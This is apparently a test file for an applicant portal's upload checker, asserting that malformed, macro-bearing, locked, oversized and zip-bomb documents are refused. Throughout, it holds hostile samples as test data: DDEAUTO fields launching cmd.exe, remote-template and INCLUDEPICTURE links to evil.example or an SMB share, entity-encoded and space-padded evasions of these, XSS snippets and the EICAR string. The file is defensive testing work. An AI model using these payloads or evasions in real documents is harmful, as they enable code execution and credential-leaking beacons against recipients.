import assert from 'node:assert/strict'
import { after, before, beforeEach, describe, test } from 'node:test'
import { DOCUMENT_WORDS } from '#contract/documents/documents.ts'
import { sql } from '../../server/database/connect.ts'
import { openPortal, type Portal } from '../support/portal.ts'
import {
  compound,
  contentTypes,
  doc,
  docx,
  EICAR,
  jpeg,
  pdf,
  png,
  pngChunk,
  relation,
  relations,
  zip,
} from '../support/sample-files.ts'
import { applicantWith, arrivingFiles, storedFiles, type WithApplication } from '../support/uploads.ts'
import {
  rels,
  wordXml,
  body,
  run,
  begin,
  close,
  fieldOf,
  field,
  many,
  round,
  external,
} from '../support/odd-documents.ts'

// `applicantWith` creates a person with a draft application, and functions for its documents. `storedFiles`
// lists the names of stored files, `arrivingFiles` those of uploads in progress.
let portal: Portal
let person: WithApplication
before(async () => {
  portal = await openPortal()
  person = await applicantWith(portal)
})
// Deletes the counts of uploads, because a person may upload only a limited number of files.
beforeEach(() => portal.db.run(sql`delete from counters`))
after(() => portal.close())

describe('T13 T14 which documents are refused, and with which sentence', () => {
  // These documents are refused. `compound` and `doc` make an old .doc. The others make a .docx: `rels` with
  // these relations, `external` with a reference to the outside, `field` with fields, `body` with this text.
  type Case = [what: string, bytes: Buffer | string, word: keyof typeof DOCUMENT_WORDS]
  const cases: Record<string, Case[]> = {
    'is no document': [
      ['an empty file', '', 'empty'],
      ['one letter', 'x', 'wrongType'],
      ['a web page', '<!doctype html><script>alert(1)</script>', 'wrongType'],
      ['an RTF renamed .doc', '{\\rtf1\\ansi Wanjiku}', 'wrongType'],
      ['a program', Buffer.from('4d5a90000300', 'hex'), 'wrongType'],
      ['a test virus', EICAR, 'wrongType'],
      ['a GIF', 'GIF89a', 'wrongType'],
      ['an SVG', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'wrongType'],
      ['a PDF behind other bytes', Buffer.concat([Buffer.from('<html>'), pdf()]), 'wrongType'],
      ['a zip that is no document', zip([{ name: 'cv.txt', data: 'Wanjiku' }]), 'wrongType'],
      [
        'a spreadsheet renamed .docx',
        zip([
          { name: '[Content_Types].xml', data: contentTypes() },
          { name: 'xl/workbook.xml', data: '<x/>' },
        ]),
        'wrongType',
      ],
      ['an .xls renamed .doc', compound(['Workbook', '\u0005SummaryInformation']), 'wrongType'],
      [
        'an installer renamed .doc',
        compound(['\u4840\u3f3f\u4577', '\u0005SummaryInformation']),
        'wrongType',
      ],
    ],
    'is broken': [
      ['a PDF without its end', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\n'), 'damaged'],
      ['a PNG that breaks off', png().subarray(0, 60), 'damaged'],
      ['a PNG without a picture', Buffer.concat([png().subarray(0, 33), png().subarray(-12)]), 'damaged'],
      ['a PNG with an unknown part', png({ extra: [pngChunk('XYZa', Buffer.from('x'))] }), 'damaged'],
      ['a JPEG that breaks off in its head', jpeg().subarray(0, 30), 'damaged'],
      ['a JPEG without a picture', Buffer.from('ffd8ffd9', 'hex'), 'damaged'],
      ['a compound file that breaks off', doc().subarray(0, 600), 'damaged'],
      ['a zip without its directory', docx().subarray(0, -30), 'damaged'],
      ['a zip with something behind its end', Buffer.concat([docx(), Buffer.from('PK')]), 'damaged'],
      [
        'a part that is no deflate',
        docx({}, [{ name: 'word/x.xml', data: 'x'.repeat(100), packed: Buffer.from('ffffffff', 'hex') }]),
        'damaged',
      ],
      ['a part named twice', docx({}, [{ name: 'WORD/document.xml', data: '<x/>' }]), 'damaged'],
      [
        'relations with a grammar of their own',
        docx({ 'word/_rels/document.xml.rels': `<!DOCTYPE x [<!ENTITY e "External">]>${relations()}` }),
        'damaged',
      ],
      ['relations with an instruction', rels('<?x y?>'), 'damaged'],
      ['relations with CDATA', rels('<![CDATA[x]]>'), 'damaged'],
      [
        'relations that say UTF-7',
        docx({ 'word/_rels/document.xml.rels': relations().replace('UTF-8', 'UTF-7') }),
        'damaged',
      ],
      [
        'relations with a number that belongs to no character',
        rels(relation('hyperlink', 'https://x.example/&#99999999;', true)),
        'damaged',
      ],
      [
        'an attribute named twice',
        rels('<Relationship TargetMode="Internal" TargetMode="External"/>'),
        'damaged',
      ],
      ['a remark that never ends', docx({ '[Content_Types].xml': '<!--'.repeat(32_000) }), 'damaged'],
      ['tags that never end', rels('<Relationship '.repeat(9_000)), 'damaged'],
      ['a name without end', docx({ '[Content_Types].xml': `<Default ${'a'.repeat(130_000)}>` }), 'damaged'],
      ['quotes that never end', rels(`<Relationship ${"a='".repeat(40_000)}`), 'damaged'],
      ['a directory that goes round', round(), 'damaged'],
      [
        'text in UTF-16',
        docx({ 'word/document.xml': Buffer.from(`\ufeff${wordXml('')}`, 'utf16le') }),
        'damaged',
      ],
      [
        'text with a grammar of its own',
        docx({ 'word/document.xml': `<!DOCTYPE x [<!ENTITY e "DDE">]>${wordXml('')}` }),
        'damaged',
      ],
      [
        'text that says UTF-7',
        docx({ 'word/document.xml': `<?xml version="1.0" encoding="utf-7"?>${wordXml('')}` }),
        'damaged',
      ],
      [
        'relations in UTF-16',
        docx({ 'word/_rels/document.xml.rels': Buffer.from(`\ufeff${relations()}`, 'utf16le') }),
        'damaged',
      ],
    ],
    'has hidden parts': [
      ['a macro document renamed .docx', docx({ 'word/vbaProject.bin': 'x' }), 'macros'],
      [
        'macros by their type alone',
        docx({
          '[Content_Types].xml': contentTypes(
            '<Override PartName="/word/m.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
          ),
        }),
        'macros',
      ],
      [
        'a macro-enabled main type',
        docx({
          '[Content_Types].xml': contentTypes().replace(
            'openxmlformats-officedocument.wordprocessingml.document.main',
            'ms-word.document.macroEnabled.main',
          ),
        }),
        'macros',
      ],
      [
        'a type with its letters spelled',
        docx({
          '[Content_Types].xml': contentTypes(
            "<Override PartName='/m' ContentType='application/vnd.ms-office.vba&#x50;roject'/>",
          ),
        }),
        'macros',
      ],
      [
        'a type with a letter as a number of many zeros',
        docx({
          '[Content_Types].xml': contentTypes(
            "<Override PartName='/m' ContentType='application/vnd.ms-office.vba&#x0000050;roject'/>",
          ),
        }),
        'macros',
      ],
      [
        'a template that says it lies inside, with a letter as a number of many zeros',
        rels(relation('attachedTemplate', '&#00000104;ttps://evil.example/x.dotm')),
        'macros',
      ],
      ['a template from elsewhere', external('attachedTemplate'), 'macros'],
      ['a template on a share', external('attachedTemplate', '\\\\evil\\share\\x.dotm'), 'macros'],
      [
        'a template on a share that says it lies inside',
        rels(relation('attachedTemplate', '\\\\evil\\share\\x.dotm')),
        'macros',
      ],
      [
        'a picture from elsewhere that says it lies inside',
        rels(relation('image', 'http://evil.example/seen.png')),
        'macros',
      ],
      [
        'a template on a share, as a file',
        external('attachedTemplate', 'file:///\\\\evil\\share\\x.dotm'),
        'macros',
      ],
      ['a template on a host, as a file', external('attachedTemplate', 'file://evil/share/x.dotm'), 'macros'],
      [
        'a template on a share, spelled',
        external('attachedTemplate', 'file:///%5C%5Cevil%5Cx.dotm'),
        'macros',
      ],
      ['an object on the author’s disk', external('oleObject', 'file:///C:\\x.xls'), 'macros'],
      [
        'a template, spelled',
        rels(
          relation('attachedTemplate', 'https://evil.example').replace(
            '/>',
            " TargetMode = '&#69;xternal'/>",
          ),
        ),
        'macros',
      ],
      [
        'a template behind a >',
        rels(relation('attachedTemplate', 'https://evil.example/>x', true)),
        'macros',
      ],
      [
        'a template under a prefix',
        docx({
          'word/_rels/document.xml.rels': relations(
            relation('attachedTemplate', 'https://evil.example', true),
          ).replaceAll('<Relationship ', '<r:Relationship '),
        }),
        'macros',
      ],
      [
        'a template in the settings',
        docx({
          'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', 'https://x.example', true)),
        }),
        'macros',
      ],
      ['a picture from elsewhere', external('image', 'https://evil.example/beacon.png'), 'macros'],
      ['an object', rels(relation('oleObject', 'x.bin')), 'macros'],
      ['a document of another kind inside', rels(relation('aFChunk', 'x.html')), 'macros'],
      ['an embedded spreadsheet', docx({ 'word/embeddings/Sheet1.xlsx': 'x' }), 'macros'],
      ['an ActiveX control', docx({ 'word/activeX/activeX1.bin': 'x' }), 'macros'],
      [
        'a compound file under another name',
        docx({ 'word/media/image1.png': Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
        'macros',
      ],
      [
        'a program under another name',
        docx({ 'word/media/image1.png': Buffer.from('4d5a9000', 'hex') }),
        'macros',
      ],
      ['a field that runs a program', field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), 'macros'],
      ['a field that runs a program, in three runs', field(' DD', 'EA', 'UTO c:\\\\cmd.exe'), 'macros'],
      ['a field that runs a program, spelled', field('D&#68;E <![CDATA[x]]>'), 'macros'],
      [
        'a field that runs a program, with a letter as a number of many zeros',
        field('D&#00000068;E x y'),
        'macros',
      ],
      [
        'a field that runs a program, in one tag',
        body(`<w:fldSimple w:instr='  ddeauto c:\\cmd'/>`),
        'macros',
      ],
      [
        'a field that runs a program, behind 2,000 spaces that are written as numbers',
        field(`${'&#32;'.repeat(2_000)}DDEAUTO c:\\\\cmd.exe`),
        'macros',
      ],
      [
        'a field that runs a program, whose name is cut where the stored text ends',
        field(`${'&#32;'.repeat(1_638)}DDEAUTO c:\\\\cmd.exe`),
        'macros',
      ],
      [
        'a field that runs a program, behind an instruction under another prefix',
        body('<w:fldSimple xmlns:x="y" x:instr="PAGE" w:instr="DDEAUTO c:\\\\cmd.exe"/>'),
        'macros',
      ],
      [
        'a field that runs a program, with a type of marker under another prefix',
        body(
          `${run('x')}<w:fldChar xmlns:x="y" x:fldCharType="separate" w:fldCharType="begin"/>${run('DDE x y')}${close}`,
        ),
        'macros',
      ],
      [
        'a field under a prefix of other letters',
        body('<à:fldSimple xmlns:à="x" à:instr="DDEAUTO c:\\\\cmd.exe"/>'),
        'damaged',
      ],
      [
        'a field under a prefix of 150 letters',
        body(`<${'a'.repeat(150)}:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>`),
        'damaged',
      ],
      [
        'a field under a prefix of 600 letters',
        body(`<${'a'.repeat(600)}:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>`),
        'damaged',
      ],
      [
        'a field that is never closed',
        body('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE x y</w:instrText>'),
        'macros',
      ],
      [
        'a field whose name another works out',
        body(`${begin}${run('QUOTE 68 68 69')}${close}${run('x y')}${close}`.replace(begin, begin + begin)),
        'macros',
      ],
      ['a picture fetched by a field', field('INCLUDEPICTURE "http://evil.example/t.png" \\d'), 'macros'],
      ['a picture fetched from a share', field('INCLUDEPICTURE \\d \\\\\\\\evil\\\\t.png'), 'macros'],
      [
        'a picture fetched from where another field says',
        body(`${begin}${run('INCLUDEPICTURE "')}${begin}${run('QUOTE 1')}${close}${close}`),
        'macros',
      ],
      [
        'a fetching field with a letter as an entity, whose address another field works out',
        body(`${begin}${run('&#73;NCLUDEPICTURE "')}${begin}${run('QUOTE 1')}${close}${close}`),
        'macros',
      ],
      [
        'a fetching field without a space before the address, which another field works out',
        body(`${begin}${run('INCLUDEPICTURE"')}${begin}${run('QUOTE 1')}${close}${close}`),
        'macros',
      ],
      [
        'a picture fetched from where a simple field says',
        body(`${begin}${run('INCLUDEPICTURE "')}<w:fldSimple w:instr="QUOTE 1"/>${close}`),
        'macros',
      ],
      [
        'a text fetched by a field of a header',
        docx({ 'word/header1.xml': wordXml(fieldOf('INCLUDETEXT file://evil/x.docx')) }),
        'macros',
      ],
      [
        'a text fetched by a field of a footnote',
        docx({ 'word/footnotes.xml': wordXml(fieldOf('INCLUDETEXT “ftp://evil/x”')) }),
        'macros',
      ],
      ['a field in a part named otherwise', docx({ 'word/x.bin': wordXml(fieldOf('DDE a b')) }), 'macros'],
      ['a zip in a zip', docx({ 'word/media/image1.png': docx() }), 'macros'],
      ['a .doc with macros', compound(['WordDocument', 'Macros', 'VBA']), 'macros'],
      ['a .doc with a package', compound(['WordDocument', 'ObjectPool', '\u0001Ole10Native']), 'macros'],
    ],
    'is locked': [
      ['a .doc with a password', (() => compound(['WordDocument'], { encrypted: true }))(), 'locked'],
      ['a .docx with a password', compound(['EncryptedPackage', 'EncryptionInfo']), 'locked'],
      ['a zip with a password', docx({}, [{ name: 'word/x.xml', data: 'x', flags: 1 }]), 'locked'],
    ],
    'is larger inside, or in more parts than any': [
      ['a bomb with its true size', docx({ 'word/x.xml': Buffer.alloc(51 * 1_048_576) }), 'unpacked'],
      [
        'a bomb under 50 MB, a hundred to one',
        docx({ 'word/x.xml': Buffer.alloc(20 * 1_048_576) }),
        'unpacked',
      ],
      [
        'a bomb that lies about its size',
        docx({}, [{ name: 'word/x.xml', data: Buffer.alloc(60 * 1_048_576), claimed: 1_000 }]),
        'unpacked',
      ],
      [
        '65,535 parts',
        docx(
          {},
          Array.from({ length: 65_532 }, (_, index) => ({ name: `w/${index}`, data: '', stored: true })),
        ).subarray(0),
        'tooLarge',
      ],
      [
        '2,001 parts',
        docx(
          {},
          Array.from({ length: 1_997 }, (_, index) => ({ name: `w/${index}`, data: '', stored: true })),
        ),
        'complex',
      ],
      [
        'a listing of more than 128 KB',
        docx({ '[Content_Types].xml': contentTypes(' '.repeat(131_072)) }),
        'complex',
      ],
      ['more than 32 listings', docx(many(31, () => relations())), 'complex'],
      [
        'listings of more than 512 KB together',
        docx(many(5, () => relations(' '.repeat(130_000)))),
        'complex',
      ],
    ],
    'is too large a picture': [
      ['a PNG of 60,000 by 60,000', png({ width: 60_000, height: 60_000 }), 'tooManyPixels'],
      ['a PNG of 40,000,001 pixels', png({ width: 40_000_001, height: 1 }), 'tooManyPixels'],
      ['a JPEG of 65,000 by 65,000', jpeg({ width: 65_000, height: 65_000 }), 'tooManyPixels'],
      ['a PNG of no height', png({ height: 0 }), 'damaged'],
    ],
  }
  for (const [why, files] of Object.entries(cases)) {
    describe(why, () => {
      for (const [what, bytes, word] of files) {
        test(`T13 ${what}: '${String(DOCUMENT_WORDS[word])}'`, async () => {
          const before = storedFiles(portal).length
          const usedBefore = process.cpuUsage()
          const answer = await person.upload(bytes, 'cv.docx')
          const expected =
            word === 'tooLarge' ? [413, [DOCUMENT_WORDS.tooLarge]] : [422, [DOCUMENT_WORDS[word]]]
          assert.deepEqual([answer.status, answer.json.file], expected, answer.text)
          const { user, system } = process.cpuUsage(usedBefore)
          assert.ok(user + system < 1_500_000, `${user + system} µs of the processor`)
          assert.deepEqual([storedFiles(portal).length, arrivingFiles(portal)], [before, []])
        })
      }
    })
  }
})
